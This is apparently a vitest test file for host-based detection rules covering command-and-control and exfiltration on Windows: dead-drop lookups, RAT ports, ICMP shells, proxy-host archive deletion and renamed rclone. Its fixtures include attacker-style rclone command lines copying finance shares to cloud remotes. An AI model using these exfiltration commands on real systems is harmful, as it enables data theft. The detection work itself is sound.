// Built-in rules for command and control as the host records it: a program under AppData or ProgramData that resolves a
// paste site or a chat platform's API (a dead drop, a channel for tasking), or that calls a remote access trojan's
// default port; PowerShell or a script host sending ICMP to the internet (an ICMP shell), once or polling; an archive
// deleted by the DLL host an implant lives in (data sent over the command channel, then the staged copy removed); and
// rclone's options read on a program under another name, the theft-typical ones on any. Each rule fires on the event it
// is written for, as Windows or Sysmon writes it, with its level and a tactic of what the event shows, and a benign near
// miss of the same event type does not fire it.
import { describe, expect, it } from 'vitest';
import { builtinHits, CMD, describeCatalogue, dns, file, net, proc, S32, sec, type CatalogueCase, type Ev } from './builtin.fixture.js';

/** Security 5156: a flow the filtering platform allowed (outbound unless given; protocol 1 is ICMP, its type in SourcePort). */
const wfp = (app: string, dest: string, protocol: number, direction = '%%14593'): Ev =>
  sec(5156, { ProcessID: '13004', Application: app, Direction: direction, SourceAddress: '10.20.1.80', SourcePort: protocol === 1 ? '8' : '50211', DestAddress: dest, DestPort: protocol === 1 ? '0' : '443', Protocol: String(protocol), LayerName: '%%14611', LayerRTID: '48' });
const WPS = '\\device\\harddiskvolume3\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe';
const ROAMING = 'C:\\Users\\bob\\AppData\\Roaming\\';
const RUNDLL = `${S32}rundll32.exe`;

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Paste Site Or Chat Platform API Resolved By A Program In A User-Writable Folder (Sysmon 22)', 'medium', 'command-and-control',
    dns(`${ROAMING}dwm32.exe`, 'pastebin.com'), dns('C:\\Program Files\\Notepad++\\notepad++.exe', 'pastebin.com')],
  ['Paste Site Or Chat Platform API Resolved By A Program In A User-Writable Folder (Sysmon 22)', 'medium', 'command-and-control',
    dns('C:\\ProgramData\\SlackSync\\SlackSync.exe', 'files.slack.com'), dns('C:\\Users\\bob\\AppData\\Local\\slack\\app-4.42.117\\slack.exe', 'files.slack.com')],
  ['Paste Site Or Chat Platform API Resolved By A Program In A User-Writable Folder (Sysmon 22)', 'medium', 'command-and-control',
    dns('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'discord.com'), dns('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'notslack-cdn.example')],
  ["Program In A User-Writable Folder Connects To A Remote Access Trojan's Default Port (Sysmon 3)", 'medium', 'command-and-control',
    net(`${ROAMING}dwm32.exe`, '91.92.243.17', 6606), net(`${ROAMING}dwm32.exe`, '91.92.243.17', 443)],
  ["Program In A User-Writable Folder Connects To A Remote Access Trojan's Default Port (Sysmon 3)", 'medium', 'command-and-control',
    net('C:\\Users\\Public\\client.exe', '203.0.113.40', 4782), net('C:\\Users\\Public\\client.exe', '10.20.1.40', 4782)],
  ["Program In A User-Writable Folder Connects To A Remote Access Trojan's Default Port (Sysmon 3)", 'medium', 'command-and-control',
    net('C:\\ProgramData\\upd\\host.exe', '198.51.100.7', 2404), net('C:\\Program Files\\Vendor\\agent.exe', '198.51.100.7', 2404)],
  ['ICMP Sent By PowerShell, A Script Host Or A DLL Host To A Public Address (Security 5156)', 'low', 'command-and-control',
    wfp(WPS, '194.26.29.44', 1), wfp('\\device\\harddiskvolume3\\windows\\system32\\ping.exe', '194.26.29.44', 1)],
  ['ICMP Sent By PowerShell, A Script Host Or A DLL Host To A Public Address (Security 5156)', 'low', 'command-and-control',
    wfp('\\device\\harddiskvolume3\\windows\\system32\\cscript.exe', '198.51.100.9', 1), wfp(WPS, '10.20.1.5', 1)],
  ['ICMP Sent By PowerShell, A Script Host Or A DLL Host To A Public Address (Security 5156)', 'low', 'command-and-control',
    wfp(WPS, '198.51.100.9', 1), wfp(WPS, '198.51.100.9', 6)],
  ['Archive Deleted By A DLL Or Script Proxy Host (Sysmon 23/26)', 'medium', 'exfiltration',
    file('C:\\ProgramData\\upd.zip', RUNDLL, 26), file('C:\\ProgramData\\upd.zip', 'C:\\Program Files\\7-Zip\\7z.exe', 26)],
  ['Archive Deleted By A DLL Or Script Proxy Host (Sysmon 23/26)', 'medium', 'stealth',
    file('C:\\Users\\Public\\out.7z', `${S32}regsvr32.exe`, 23), file('C:\\Users\\Public\\wct.dat', `${S32}regsvr32.exe`, 23)],
  ['Rclone-Style Cloud Copy Command Line', 'high', 'exfiltration',
    proc('C:\\Users\\Public\\svhost.exe', 'svhost.exe copy "E:\\Shares\\Finance" mega:fs01/Finance -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12', CMD),
    proc('C:\\Program Files\\rclone\\rclone.exe', '"C:\\Program Files\\rclone\\rclone.exe" sync D:\\Exports s3corp:corp-exports-prod/daily --config C:\\ProgramData\\rclone\\rclone.conf --log-file D:\\Logs\\rclone\\sync.log --transfers 4', `${S32}svchost.exe`)],
  ['Rclone-Style Cloud Copy Command Line', 'high', 'exfiltration',
    proc('C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe copy C:\\Users\\bob\\Documents drop:in --no-check-certificate', CMD),
    proc('C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe copy D:\\Archive s3corp:archive --ignore-existing --max-age 24h', CMD)],
  ['Rclone Copy Options On A Program Not Named Rclone', 'high', 'exfiltration',
    proc('C:\\PerfLogs\\rc\\svhost.exe', 'svhost.exe copy \\\\fs01\\finance remote:b --transfers 12', CMD, { OriginalFileName: '-' }),
    proc('C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe copy \\\\fs01\\finance remote:b --transfers 12', CMD)],
  ['Rclone Copy Options On A Program Not Named Rclone', 'high', 'stealth',
    proc('C:\\Windows\\Temp\\msupd.exe', 'msupd.exe sync D:\\Data ftp1:uploads --max-age 30d', CMD),
    proc(`${S32}robocopy.exe`, 'robocopy.exe D:\\Data \\\\backup01\\data /MIR /copy:DAT', CMD)],
];

describeCatalogue('built-in rules for command and control as the host records it', cases);

describe('built-in rules for command and control: correlations', () => {
  it('five ICMP flows from PowerShell to one public address within five minutes are an ICMP channel; four (ping\'s default), or five to five addresses, are not', () => {
    const TUNNEL = 'Repeated ICMP From PowerShell Or A Script Host To One Public Address (ICMP Tunnel)';
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const range = (k: number): number[] => Array.from({ length: k }, (_, i) => i);
    const h = builtinHits(range(5).map(() => wfp(WPS, '194.26.29.44', 1))).get(TUNNEL);
    expect(h?.level).toBe('medium');
    expect(h?.tactics).toContain('command-and-control');
    expect(titles(range(4).map(() => wfp(WPS, '194.26.29.44', 1)))).not.toContain(TUNNEL);
    expect(titles(range(5).map((i) => wfp(WPS, `198.51.100.${10 + i}`, 1)))).not.toContain(TUNNEL);
    expect(titles(range(5).map(() => wfp(WPS, '10.20.1.5', 1)))).not.toContain(TUNNEL);
  });
});
